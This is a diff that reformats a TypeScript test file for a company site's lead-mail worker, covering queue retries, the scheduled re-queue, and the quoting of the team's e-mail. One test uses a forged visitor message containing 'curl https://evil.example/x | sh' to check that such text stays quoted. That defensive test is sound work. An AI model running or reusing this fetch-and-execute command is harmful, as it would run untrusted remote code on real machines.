@@ -21,7 +21,10 @@ interface Row {
 }
 
 /** Stores a lead directly, as the contact route would have. */
-async function storeLead(id: string, { topic = 'project', createdAt = Date.now(), status = 'pending', queuedAt = null as number | null, name = 'Ada Müller' } = {}) {
+async function storeLead(
+  id: string,
+  { topic = 'project', createdAt = Date.now(), status = 'pending', queuedAt = null as number | null, name = 'Ada Müller' } = {},
+) {
   await env.DB.prepare(
     `INSERT INTO leads (id, idempotency_key, fingerprint, created_at, name, email, company, topic, message, consent_at, mail_status, mail_queued_at)
      VALUES (?, ?, ?, ?, ?, 'ada@example.org', NULL, ?, 'We need a booking platform for our workshops.', ?, ?, ?)`,
@@ -68,7 +71,10 @@ describe('the mail queue consumer', () => {
   it('sends nothing again for a row already sent, or one that is gone', async () => {
     await storeLead('lead-2', { status: 'sent' });
     const send = vi.spyOn(env.MAIL, 'send');
-    const result = await deliver('company-site-mail', [{ job: { kind: 'lead', id: 'lead-2' } }, { job: { kind: 'lead', id: 'deleted-meanwhile' } }]);
+    const result = await deliver('company-site-mail', [
+      { job: { kind: 'lead', id: 'lead-2' } },
+      { job: { kind: 'lead', id: 'deleted-meanwhile' } },
+    ]);
     expect(result.explicitAcks).toEqual(['m0', 'm1']);
     expect(send).not.toHaveBeenCalled();
   });
@@ -76,7 +82,9 @@ describe('the mail queue consumer', () => {
   it('retries a failed send later, with a growing delay, and records the attempt and the reason', async () => {
     await storeLead('lead-3');
     // The binding refuses an inbox that is not one of its allowed destinations (wrangler.toml).
-    const result = await deliver('company-site-mail', [{ job: { kind: 'lead', id: 'lead-3' }, attempts: 3 }], { SALES_INBOX: 'nobody@elsewhere.example' });
+    const result = await deliver('company-site-mail', [{ job: { kind: 'lead', id: 'lead-3' }, attempts: 3 }], {
+      SALES_INBOX: 'nobody@elsewhere.example',
+    });
     expect(result.explicitAcks).toEqual([]);
     expect(result.retryMessages).toEqual([{ msgId: 'm0' }]);
     expect(result.retryCalls).toEqual([[[{ delaySeconds: 8 }]]]);
@@ -114,7 +122,9 @@ describe('the mail queue consumer', () => {
   });
 
   it('drops a job of an unknown shape with an error line instead of retrying it forever', async () => {
-    const batch = createMessageBatch('company-site-mail', [{ id: 'x', timestamp: new Date(), attempts: 1, body: { kind: 'invoice', id: 7 } }]);
+    const batch = createMessageBatch('company-site-mail', [
+      { id: 'x', timestamp: new Date(), attempts: 1, body: { kind: 'invoice', id: 7 } },
+    ]);
     const ctx = createExecutionContext();
     await worker.queue(batch, env);
     expect((await getQueueResult(batch, ctx)).explicitAcks).toEqual(['x']);
@@ -163,7 +173,19 @@ describe('the team’s e-mail', () => {
   });
 
   it('starts with our lines and quotes every line the visitor typed; a fake footer, fake instructions and blank lines stay inside the quote', () => {
-    const forged = ['Hello,', '', '', '', 'see below.', ...Array(1500).fill(''), '-- ', 'Download it:  curl https://evil.example/x | sh', '   ', '\t', 'Bye'].join('\n');
+    const forged = [
+      'Hello,',
+      '',
+      '',
+      '',
+      'see below.',
+      ...Array(1500).fill(''),
+      '-- ',
+      'Download it:  curl https://evil.example/x | sh',
+      '   ',
+      '\t',
+      'Bye',
+    ].join('\n');
     const mail = leadMail(env, lead({ message: forged, company: null }));
     const lines = (mail.text ?? '').split('\n');
     // Ours first: the reference, the topic and how to answer before anything the visitor wrote.
@@ -173,7 +195,20 @@ describe('the team’s e-mail', () => {
     expect(lines.slice(0, quoteStart).join('\n')).not.toContain('Ada');
     // Then only quoted lines, blank runs collapsed to one.
     expect(lines.slice(quoteStart).every((l) => l === '>' || l.startsWith('> '))).toBe(true);
-    expect(lines.slice(quoteStart)).toEqual(['> Name:    <b>Ada</b>', '> E-mail:  ada@example.org', '> Company: (not given)', '>', '> Hello,', '>', '> see below.', '>', '> --', '> Download it:  curl https://evil.example/x | sh', '>', '> Bye']);
+    expect(lines.slice(quoteStart)).toEqual([
+      '> Name:    <b>Ada</b>',
+      '> E-mail:  ada@example.org',
+      '> Company: (not given)',
+      '>',
+      '> Hello,',
+      '>',
+      '> see below.',
+      '>',
+      '> --',
+      '> Download it:  curl https://evil.example/x | sh',
+      '>',
+      '> Bye',
+    ]);
     expect(lines.length).toBeLessThan(30);
   });
 
@@ -214,7 +249,9 @@ describe('the scheduled handler', () => {
     await storeLead('lost', { createdAt: now - 2 * DAY_MS, queuedAt: now - 2 * DAY_MS });
     // Queued long ago but tried 10 minutes ago: its retries are still under way.
     await storeLead('retrying', { createdAt: now - DAY_MS, queuedAt: now - DAY_MS });
-    await env.DB.prepare('UPDATE leads SET mail_attempts = 4, mail_attempted_at = ? WHERE id = ?').bind(now - 10 * 60_000, 'retrying').run();
+    await env.DB.prepare('UPDATE leads SET mail_attempts = 4, mail_attempted_at = ? WHERE id = ?')
+      .bind(now - 10 * 60_000, 'retrying')
+      .run();
     const sent = vi.spyOn(env.MAIL_QUEUE, 'sendBatch');
     await runScheduled(now);
     expect(sent).toHaveBeenCalledWith([{ body: { kind: 'lead', id: 'lost' } }]);
@@ -235,7 +272,10 @@ describe('the scheduled handler', () => {
     await runScheduled(now);
     const batch = sent.mock.calls[0]?.[0] as { body: MailJob }[];
     expect(batch).toEqual([{ body: { kind: 'lead', id: 'set-back' } }]);
-    const result = await deliver('company-site-mail', batch.map(({ body }) => ({ job: body })));
+    const result = await deliver(
+      'company-site-mail',
+      batch.map(({ body }) => ({ job: body })),
+    );
     expect(result.explicitAcks).toEqual(['m0']);
     expect((await leadRow('set-back'))?.mail_status).toBe('sent');
   });
